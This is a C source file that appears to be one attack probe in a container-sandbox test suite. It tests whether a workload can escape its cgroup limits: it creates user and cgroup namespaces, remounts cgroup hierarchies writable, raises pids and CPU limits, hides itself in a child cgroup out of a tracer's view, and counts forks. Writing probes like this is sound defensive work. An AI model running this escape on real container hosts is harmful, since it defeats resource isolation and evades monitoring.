// Attack: a cgroup hierarchy of the workload's own, writable. The container's
// cgroup file systems are mounted read-only, but a task that holds
// CAP_SYS_ADMIN over a cgroup namespace may mount the hierarchies again in it,
// rooted at its own cgroup. A workload whose filter allows user namespaces
// (observe) makes one mapping its uid 0 to the node's uid 0 (it holds
// CAP_SETUID over its own user namespace), where it holds every capability,
// and the cgroup files are root's: the kernel asks nothing more than their
// mode, unless the hierarchy is mounted with nsdelegate. With a cgroup
// namespace of its own it then:
//   raises its container's limits (v1 pids.max, cpu.cfs_quota_us; v2 pids.max)
//   makes a cgroup below its container's and moves itself into it, where the
//   tracer (which matches cgroups exactly) no longer sees it, and which the
//   agent did not expect when removing the container's cgroup.
// Each step is tried also without a cgroup namespace of its own, through the
// container's read-only mount (remounted writable in a mount namespace of the
// workload's). Then it forks children that wait until it has counted them, up
// to 200, and says how many it got under the container's pids limit
// ("forks=N errno ENAME"), and which cgroup it ends in.
//   userns         unshare(CLONE_NEWUSER) in a child; uid-map, gid-map
//   cgroupns       unshare(CLONE_NEWNS | CLONE_NEWCGROUP) in that child
//   clone-cgroupns clone(CLONE_NEWCGROUP) in that child (raw, to see the filter's answer)
//   mountns        unshare(CLONE_NEWNS) alone, when cgroupns was refused
//   mount-cgroup2, mkdir-child, move-out, raise-v2-pids
//   mount-v1-pids, raise-v1-pids, mount-v1-cpu, raise-v1-cpu
//   remount-rw     the container's own cgroup2 mount remounted writable
//   forks, cgroup
#include "attack.h"

#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>

#define MAX_FORKS 200

static int write_file(const char* path, const char* text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t n = write(fd, text, strlen(text));
  int err = errno;
  close(fd);
  errno = err;
  return n == (ssize_t)strlen(text) ? 0 : -1;
}

/** The container's own cgroup2 mount, as the view shows it. */
static const char* view_cgroup2(void) {
  struct stat st;
  if (stat("/sys/fs/cgroup/unified/cgroup.procs", &st) == 0) return "/sys/fs/cgroup/unified";
  return "/sys/fs/cgroup";
}

static void writable_hierarchies(pid_t mover) {
  char path[256];
  char pid[32];
  snprintf(pid, sizeof(pid), "%d", (int)mover);
  if (mkdir("zr-cg2", 0755) != 0 && errno != EEXIST) outcome("mkdir-mountpoint", -1);
  if (outcome("mount-cgroup2", mount("none", "zr-cg2", "cgroup2", 0, NULL)) == 0) {
    outcome("mkdir-child", mkdir("zr-cg2/zr-hide", 0755));
    outcome("move-out", write_file("zr-cg2/zr-hide/cgroup.procs", pid));
    outcome("raise-v2-pids", write_file("zr-cg2/pids.max", "max"));
  }
  const char* v1[][3] = {{"pids", "pids.max", "max"}, {"cpu", "cpu.cfs_quota_us", "-1"}};
  for (size_t i = 0; i < sizeof(v1) / sizeof(v1[0]); i++) {
    char dir[32];
    char name[64];
    snprintf(dir, sizeof(dir), "zr-cg1-%s", v1[i][0]);
    if (mkdir(dir, 0755) != 0 && errno != EEXIST) outcome("mkdir-mountpoint", -1);
    snprintf(name, sizeof(name), "mount-v1-%s", v1[i][0]);
    if (outcome(name, mount("cgroup", dir, "cgroup", 0, v1[i][0])) == 0) {
      snprintf(path, sizeof(path), "%s/%s", dir, v1[i][1]);
      snprintf(name, sizeof(name), "raise-v1-%s", v1[i][0]);
      outcome(name, write_file(path, v1[i][2]));
    }
  }
}

static void through_the_view(pid_t mover) {
  const char* mnt = view_cgroup2();
  char path[256];
  char pid[32];
  snprintf(pid, sizeof(pid), "%d", (int)mover);
  outcome("remount-rw", mount(NULL, mnt, NULL, MS_REMOUNT | MS_BIND, NULL));
  snprintf(path, sizeof(path), "%s/zr-hide", mnt);
  outcome("view-mkdir-child", mkdir(path, 0755));
  snprintf(path, sizeof(path), "%s/zr-hide/cgroup.procs", mnt);
  outcome("view-move-out", write_file(path, pid));
}

static void in_user_namespace(int go, pid_t mover) {
  char byte;
  if (read(go, &byte, 1) != 1) _exit(2);
  long child = syscall(SYS_clone, CLONE_NEWCGROUP | SIGCHLD, 0, 0, 0, 0);
  if (child == 0) _exit(0);
  outcome("clone-cgroupns", child);
  if (child > 0) waitpid((pid_t)child, NULL, 0);
  if (outcome("cgroupns", unshare(CLONE_NEWNS | CLONE_NEWCGROUP)) == 0) {
    writable_hierarchies(mover);
  } else if (outcome("mountns", unshare(CLONE_NEWNS)) == 0) {
    writable_hierarchies(mover);
    through_the_view(mover);
  }
  _exit(0);
}

static void map(pid_t pid, const char* file, const char* text, const char* name) {
  char path[64];
  snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, file);
  outcome(name, write_file(path, text));
}

static void cgroup_line(void) {
  char buf[4096];
  int fd = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC);
  ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
  if (fd >= 0) close(fd);
  if (n <= 0) {
    outcome("cgroup", -1);
    return;
  }
  buf[n] = '\0';
  char* line = strstr(buf, "0::");
  if (line == NULL) {
    say("cgroup none");
    return;
  }
  line[strcspn(line, "\n")] = '\0';
  say("cgroup %s", line + 3);
}

static void count_forks(void) {
  int hold[2];
  if (pipe2(hold, O_CLOEXEC) != 0) _exit(2);
  pid_t children[MAX_FORKS];
  int forked = 0;
  int err = 0;
  for (; forked < MAX_FORKS; forked++) {
    pid_t pid = fork();
    if (pid == 0) {
      char byte;
      close(hold[1]);
      while (read(hold[0], &byte, 1) < 0 && errno == EINTR) {
      }
      _exit(0);
    }
    if (pid < 0) {
      err = errno;
      break;
    }
    children[forked] = pid;
  }
  close(hold[1]);
  for (int i = 0; i < forked; i++) waitpid(children[i], NULL, 0);
  const char* name = err ? strerrorname_np(err) : "none";
  say("forks forked=%d errno %s", forked, name ? name : "E?");
}

int main(void) {
  int go[2];
  int ready[2];
  if (pipe2(go, O_CLOEXEC) != 0 || pipe2(ready, O_CLOEXEC) != 0) return 2;
  pid_t self = getpid();
  pid_t child = fork();
  if (child < 0) return 2;
  if (child == 0) {
    close(go[1]);
    close(ready[0]);
    char byte = outcome("userns", unshare(CLONE_NEWUSER)) == 0 ? 'y' : 'n';
    if (write(ready[1], &byte, 1) != 1 || byte != 'y') _exit(0);
    in_user_namespace(go[0], self);
  }
  close(go[0]);
  close(ready[1]);
  char byte = 'n';
  if (read(ready[0], &byte, 1) == 1 && byte == 'y') {
    map(child, "setgroups", "deny", "setgroups");
    map(child, "uid_map", "0 0 1\n", "uid-map");
    map(child, "gid_map", "0 0 1\n", "gid-map");
    if (write(go[1], "g", 1) != 1) return 2;
  }
  close(go[1]);
  waitpid(child, NULL, 0);
  count_forks();
  cgroup_line();
  return 0;
}
